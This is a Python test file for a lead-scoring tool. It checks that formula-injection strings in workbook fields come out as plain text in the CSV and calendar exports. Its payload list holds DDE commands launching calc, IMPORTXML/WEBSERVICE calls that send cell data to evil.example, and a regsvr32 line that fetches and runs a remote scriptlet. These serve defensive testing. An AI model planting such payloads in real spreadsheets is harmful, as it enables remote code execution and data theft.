"""No hostile lead text becomes a formula in the tasks CSV or the calendar, and the workbook keeps it as text.

About 200 hostile strings (formulas, DDE payloads, tab- and CR-prefixed text,
full-width look-alikes, long strings, line breaks, quotes and separators) go into
the lead IDs, names, companies, sources and owners of a real workbook, and into a
nurture step's content; `leadscore tasks BOOK --csv F --ics G` runs as a user
would; F is read back with the csv module and G with icalendar.
"""
from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import icalendar
import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl.utils import range_boundaries

from addin.cli import cli
from scoring import default_model
from scoring.defaults import LEAD_COLUMNS, header
from workbook import template
from workbook.exports import calendar_text, neutralise
from workbooks import known_book

# What OWASP lists (and the full-width forms): no text cell may start with one, unless neutralised.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
PAYLOADS = ["cmd|' /C calc'!A0", "SUM(1)", "2+3", 'HYPERLINK("http://evil.example","x")', "1+1", "A1",
            'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")', 'WEBSERVICE("http://evil.example")',
            'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
            "MSEXCEL|'\\..\\..\\Windows\\System32\\regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll'!''"]
AROUND = [" ", "  ", "\u00a0", "\u3000", " \t", '"', "'", ";", ",", "a;", "a,", "Rossi\n", "x\r\n"]


def hostile_strings() -> list[str]:
    found = [t + p for t in TRIGGERS for p in PAYLOADS]
    found += [a + p for a in AROUND for p in ("=cmd|' /C calc'!A0", "+SUM(1)", "@SUM(1)")]
    found += [t + t + "1" for t in TRIGGERS] + [t + " 1" for t in TRIGGERS]
    found += ['=1+2";=1+2', "=1+2'\" ;,=1+2", '"=1+2"', "'=1+2", "-5", "-0.5", "+39 02 1234567", "@anna",
              "@SUM(1)", "+SUM(1)", "-2+3", "=" + "1+" * 3000 + "1", "=" + "A" * 5000, "A" * 5000,
              "=1+2\n=3+4", "=1+2\r\n=3+4", "Anna\n=1+2", "line1\r=cmd|' /C calc'!A0", "\u2212 2+3",
              "\ufe661+1", "\ufe62SUM(1)", "\u02bc=1", "=\u200b1+1", "\u200b=1+1", "\ufeff=1+1",
              "O'Brien", "Smith, Jr.", "Müller; GmbH", 'The "Best" Co', "ACME|calc", "%0A=1+1", "Anna Rossi"]
    return list(dict.fromkeys(found))


HOSTILE = hostile_strings()


def starts_a_formula(text: str) -> bool:
    return text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)


def test_there_are_about_200_hostile_strings():
    assert len(HOSTILE) >= 195
    assert sum(starts_a_formula(s) for s in HOSTILE) >= 150


def hostile_book(path: Path) -> Path:
    """A workbook whose leads carry the hostile strings; every lead is an MQL or an SQL, so gets tasks."""
    model = default_model("b2b", "en")
    rows = []
    n = len(HOSTILE)
    for i, text in enumerate(HOSTILE):
        sql = i % 2 == 0  # SQLs get a call whose content quotes the lead's source.
        lead = {"id": text, "name": HOSTILE[(i + 1) % n], "company": HOSTILE[(i + 2) % n],
                "source": HOSTILE[(i + 3) % n], "owner": HOSTILE[(i + 4) % n] if i % 3 == 0 else None,
                "role": "CEO" if sql else "Purchasing manager", "industry": "IT", "employees": 1200,
                "revenue": 2_500_000, "pricing": 5, "papers": 1, "demo": 1 if sql else 0, "quote": 1 if sql else 0}
        rows.append([lead.get(m) for m in LEAD_COLUMNS["b2b"]])
    leads = pd.DataFrame(rows, columns=[header(m, "en") for m in LEAD_COLUMNS["b2b"]], dtype=object)
    template.build(path, model, leads, None, "en", "b2b")
    # A nurture step whose content itself starts like a formula (the calendar description starts with it).
    wb = openpyxl.load_workbook(path)
    ws = wb["LeadScore"]
    table = ws.tables["tblSequences"]
    min_col, min_row, max_col, _ = range_boundaries(table.ref)
    headers = [ws.cell(min_row, c).value for c in range(min_col, max_col + 1)]
    ws.cell(min_row + 1, min_col + headers.index("Content")).value = "=HYPERLINK(\"http://evil.example\",\"Hi\")"
    ws.cell(min_row + 1, min_col + headers.index("Content")).data_type = "s"
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """The hostile workbook after `leadscore tasks` (about 5 s: the tests that use it are slow)."""
    folder = tmp_path_factory.mktemp("hostile")
    book = hostile_book(folder / "book.xlsx")
    result = CliRunner().invoke(cli, ["tasks", str(book), "--as-of", "2026-11-23", "--csv", str(folder / "t.csv"),
                                      "--ics", str(folder / "t.ics")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return book, folder / "t.csv", folder / "t.ics"


def stored_leads(wb) -> list[dict]:
    """The Leads table's cells as stored in the workbook: {header: cell}."""
    rows = list(wb["Leads"].iter_rows())
    heads = [c.value for c in rows[0]]
    return [dict(zip(heads, r)) for r in rows[1:] if r[0].value is not None]


@pytest.fixture(scope="module")
def stored(exported):
    return openpyxl.load_workbook(exported[0])


@pytest.mark.slow
def test_the_workbook_keeps_every_hostile_string_as_text(stored):
    leads = stored_leads(stored)
    assert len(leads) == len(HOSTILE)
    for lead in leads:
        for column in ("Lead ID", "Name", "Company", "Source"):
            assert lead[column].data_type == "s", (column, lead[column].value)
    tasks = stored["Tasks 2026-11-23"]
    cells = [c for row in tasks.iter_rows(min_row=2, max_col=7) for c in row if c.value is not None]
    assert len(cells) > 1000 and all(c.data_type == "s" for c in cells)


@pytest.mark.slow
def test_no_csv_cell_starts_a_formula(exported, stored):
    _, csv_path, _ = exported
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    header_row, rows = table[0], table[1:]
    assert header_row == ["Lead ID", "Lead", "Company", "Task", "Channel", "Content", "Owner", "Due", "Priority",
                          "Reason"]
    assert len(rows) > 500
    for row in rows:
        for cell in row:
            assert not starts_a_formula(cell) or cell.startswith("'"), cell[:40]
    # Each lead's text arrives whole (the task planner trims surrounding spaces), with the single
    # quote in front where it would start a formula.
    def forms(cell):
        return {neutralise(cell.value), neutralise(cell.value.strip())}

    leads = {(i, n, c) for lead in stored_leads(stored) for i in forms(lead["Lead ID"])
             for n in forms(lead["Name"]) for c in forms(lead["Company"])}
    for row in rows:
        assert tuple(row[:3]) in leads, row[:3]
    assert any(row[5].startswith("'=HYPERLINK(\"http://evil.example\",\"Hi\")") for row in rows)
    assert sum(row[0].startswith("'") for row in rows) > len(rows) / 2


@pytest.mark.slow
def test_every_text_field_of_the_csv_is_quoted_and_numbers_are_not(exported):
    # Quoted text keeps a comma or semicolon in a name from starting a new cell (OWASP's second rule):
    # reading with QUOTE_NONNUMERIC fails on any unquoted field that is not a number.
    _, csv_path, _ = exported
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f, quoting=csv.QUOTE_NONNUMERIC))
    assert all(isinstance(row[8], float) for row in rows[1:])  # Priority stays a number.
    assert all(isinstance(cell, str) for row in rows[1:] for i, cell in enumerate(row) if i != 8)


@pytest.mark.slow
def test_no_calendar_field_starts_a_formula_or_holds_a_control_character(exported):
    _, csv_path, ics_path = exported
    raw = ics_path.read_bytes()
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", raw)
    assert not re.search(rb"\r(?!\n)|(?<!\r)\n", raw)  # Every line ends in CRLF and nothing else breaks one.
    events = list(icalendar.Calendar.from_ical(raw).walk("VEVENT"))
    with open(csv_path, encoding="utf-8-sig", newline="") as f:
        assert len(events) == len(list(csv.reader(f))) - 1
    descriptions = [str(e["description"]) for e in events]
    for event in events:
        for field in ("summary", "description"):
            text = str(event[field])
            assert not starts_a_formula(text) or text.startswith("'"), text[:40]
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\r]", text)
    assert any(d.startswith("'=HYPERLINK(") for d in descriptions)


SMALL = {"L1": ("=cmd|' /C calc'!A0", "+SUM(1)"), "L2": ("@SUM(1)", "\t=1+2"), "L3": ("-2+3", " =HYPERLINK(\"x\")")}


def test_a_few_hostile_leads_stay_text_in_every_export(tmp_path):
    # The fast version of the tests above: three leads that get tasks, with hostile names and companies.
    book = known_book(tmp_path / "book.xlsx")
    wb = openpyxl.load_workbook(book)
    ws = wb["Leads"]
    for row in range(2, 7):
        name, company = SMALL.get(ws.cell(row, 1).value, (None, None))
        for col, text in ((2, name), (4, company)) if name else ():
            ws.cell(row, col).value = text
            ws.cell(row, col).data_type = "s"  # Typed as text, as in Excel with a leading quote.
    wb.save(book)
    result = CliRunner().invoke(cli, ["tasks", str(book), "--as-of", "2026-11-23", "--csv", str(tmp_path / "t.csv"),
                                      "--ics", str(tmp_path / "t.ics")], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))[1:]
    assert {(r[0], r[1], r[2]) for r in rows} == {(i, "'" + n, "'" + c.strip()) for i, (n, c) in SMALL.items()}
    for event in icalendar.Calendar.from_ical((tmp_path / "t.ics").read_bytes()).walk("VEVENT"):
        assert str(event["summary"]).startswith(("Phone: ", "Email: "))
    assert [c.data_type for c in openpyxl.load_workbook(book)["Leads"]["B"][1:4]] == ["s", "s", "s"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_makes_every_hostile_string_plain_text(value):
    safe = neutralise(value)
    assert safe == ("'" + value if starts_a_formula(value) else value)
    assert calendar_text(value) == neutralise(value.replace("\r\n", "\n"))


@pytest.mark.parametrize("value", [-5, 3.5, 0, None, dt.date(2026, 11, 23), dt.datetime(2026, 11, 23, 8, 30)])
def test_numbers_dates_and_blanks_are_left_alone(value):
    assert neutralise(value) is value


def test_control_characters_are_dropped():
    assert neutralise("Anna\x00 Rossi\x07\x1b") == "Anna Rossi"
    assert neutralise("\x00=1+1") == "'=1+1"
    assert neutralise("a\tb\nc\r\nd") == "a\tb\nc\r\nd"
    assert calendar_text("line\r\nnext\x0bend\x7f") == "line\nnextend"
